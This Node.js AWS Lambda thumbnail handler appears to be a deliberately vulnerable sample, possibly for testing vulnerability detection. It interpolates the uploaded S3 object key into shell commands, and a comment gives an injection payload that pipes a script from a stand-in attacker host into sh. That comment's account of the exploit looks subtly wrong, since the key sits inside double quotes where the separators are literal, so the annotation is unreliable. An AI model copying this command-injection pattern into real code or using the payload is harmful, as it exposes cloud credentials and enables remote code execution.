// S3 upload → thumbnail. Vulnerable: the object key is interpolated into a shell command, so an
// upload named `x;curl attacker.example|sh;.jpg` runs the attacker's script with the function's
// AWS credentials in its environment.
import { exec } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import { promisify } from 'node:util';
import { GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';

const run = promisify(exec);
const s3 = new S3Client({});
const THUMBNAIL_BUCKET = process.env.THUMBNAIL_BUCKET;

export const handler = async (event) => {
  for (const record of event.Records) {
    const bucket = record.s3.bucket.name;
    const key = decodeURIComponent(record.s3.object.key.replace(/\+/g, ' '));

    const object = await s3.send(new GetObjectCommand({ Bucket: bucket, Key: key }));
    await writeFile(`/tmp/${key}`, await object.Body.transformToByteArray());

    await run(`convert "/tmp/${key}" -thumbnail 200x200 /tmp/thumbnail.jpg`);
    // The bucket name comes from the deployment, not from the uploader: not reported.
    await run(`echo processed bucket ${bucket} >> /tmp/audit.log`);

    await s3.send(
      new PutObjectCommand({ Bucket: THUMBNAIL_BUCKET, Key: `thumbnails/${key}`, Body: await readFile('/tmp/thumbnail.jpg') }),
    );
  }
};
